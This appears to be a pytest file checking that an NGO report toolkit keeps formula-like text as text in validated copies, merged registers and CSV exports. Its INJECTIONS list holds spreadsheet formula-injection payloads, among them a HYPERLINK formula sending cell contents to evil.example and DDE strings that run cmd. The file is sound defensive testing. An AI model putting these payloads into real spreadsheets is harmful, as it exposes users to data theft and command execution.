"""Issue #6, formula injection: text typed by an NGO that starts with =, +, -, @, tab or CR stays text in the
checked copy (validation sheet included), in the register and in the CSVs; numbers, negative ones too,
stay numbers.
"""
from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest

import builders
from toolkit import package, register, values
from toolkit.validation import validate

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
# Text fields that take the injection (region also: a value outside its list, so the validation sheet
# shows it as the value found).
SINGLE_TEXT = ("region", "org_name", "project_name", "text_activities", "org_address")
TABLE_TEXT = {"ind": ("ind_indicator", "ind_place"), "partner": ("partner_name",),
              "subgrant": ("subgrant_locality",)}
_FORMULA_TAG = re.compile(rb"<(?:\w+:)?f[\s>/]")
_SHEET_DATA = re.compile(rb"<sheetData\b[^>]*/>|<sheetData\b.*?</sheetData>", re.S)


def _read(text: str) -> str:
    """What the reader keeps of a typed text: surrounding whitespace (the tab or CR) is stripped."""
    return values.parse_text(text).value


def _workbook(path: Path, text: str, lang: str = "kk", agreement: str = "94") -> Path:
    singles = builders.clean_singles()
    tables = builders.clean_tables()
    for name in SINGLE_TEXT:
        singles[name] = text
    singles["agreement_no"] = agreement
    for key, names in TABLE_TEXT.items():
        for name in names:
            tables[key][0][name] = text
    tables["ind"][1]["ind_fact"] = -5          # a negative number typed as a number
    tables["ind"][2]["ind_plan"] = "-3"        # ... and typed as text: read as the number -3
    return builders.fill(path, singles, tables, lang=lang)


def _sheet_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")}


@pytest.fixture(scope="module")
def workbooks(tmp_path_factory):
    d = tmp_path_factory.mktemp("inj")
    return [_workbook(d / f"inj{i}.xlsx", text, agreement=str(100 + i)) for i, text in enumerate(INJECTIONS)]


@pytest.mark.parametrize("i", range(len(INJECTIONS)))
def test_checked_copy_keeps_text_as_text(workbooks, tmp_path, i):
    import python_calamine

    path, text = workbooks[i], INJECTIONS[i]
    shown = _read(text)
    assert values.looks_like_formula(shown)
    result = validate(path, write_copy=True, out_dir=tmp_path)
    for name in SINGLE_TEXT[1:]:
        assert result.report.values[name] == shown
    assert str(result.report.values["region"]) == shown
    unknown = [f for f in result.findings if f.code == "unknown-option"]
    assert [f.field for f in unknown] == ["region"] and unknown[0].value == shown

    with package.open_package(result.output) as pkg:
        new = pkg.sheets[-1]
        xml = pkg.read_part(new.part)
        original_parts = _sheet_parts(path)
        assert not _FORMULA_TAG.search(xml), "the validation sheet holds a formula"
        # The NGO's own cells are copied byte for byte (only the selected tab changes): their text cells are
        # still text, no formula added.
        copied = _sheet_parts(Path(result.output))
        for name, data in original_parts.items():
            assert _SHEET_DATA.search(copied[name]).group(0) == _SHEET_DATA.search(data).group(0), name
        grid = pkg.values(new.title)
    found_col = None
    for row in grid:
        if "unknown-option" in row:
            found_col = row
    assert found_col is not None and shown in found_col, found_col
    wb = python_calamine.CalamineWorkbook.from_path(result.output)
    assert wb.get_sheet_by_name(new.title).to_python()  # readable


def test_register_and_csv_keep_text_as_text_and_numbers_as_numbers(workbooks, tmp_path):
    import python_calamine

    out = tmp_path / "register.xlsx"
    result = register.merge(workbooks, out, csv_dir=tmp_path / "csv", jobs=1)
    assert result.files == len(INJECTIONS)
    for name, data in _sheet_parts(out).items():
        assert not _FORMULA_TAG.search(data), f"{name} holds a formula"

    expected = {_read(t) for t in INJECTIONS}
    wb = python_calamine.CalamineWorkbook.from_path(str(out))
    seen = set()
    for title in wb.sheet_names:
        for row in wb.get_sheet_by_name(title).to_python():
            seen.update(v for v in row if isinstance(v, str) and v in expected)
    assert seen == expected

    # Numbers stay numbers: the indicator facts/plans in the register are numeric cells.
    ind = wb.get_sheet_by_name(register.SHEETS[1][1].get("kk")).to_python()
    header = ind[0]
    keys = [c.key for c in register.IND_COLUMNS]
    fact, plan = keys.index("ind_fact"), keys.index("ind_plan")
    assert len(header) >= len(keys)
    facts = [r[fact] for r in ind[1:]]
    plans = [r[plan] for r in ind[1:]]
    assert facts.count(-5.0) == len(INJECTIONS) and plans.count(-3.0) == len(INJECTIONS)

    cells = 0
    for csv_name in ("reports.csv", "indicators.csv", "partners.csv", "subgrants.csv", "findings.csv"):
        with open(tmp_path / "csv" / csv_name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        for row in rows[1:]:
            for cell in row:
                assert not values.looks_like_formula(cell), (csv_name, cell)
                if cell.startswith("'") and cell[1:] in expected:
                    cells += 1
    assert cells >= len(INJECTIONS) * (len(SINGLE_TEXT) + 3)
    with open(tmp_path / "csv" / "indicators.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["ind_fact"] for r in rows).count("-5") == len(INJECTIONS)
    assert [r["ind_plan"] for r in rows].count("-3") == len(INJECTIONS)
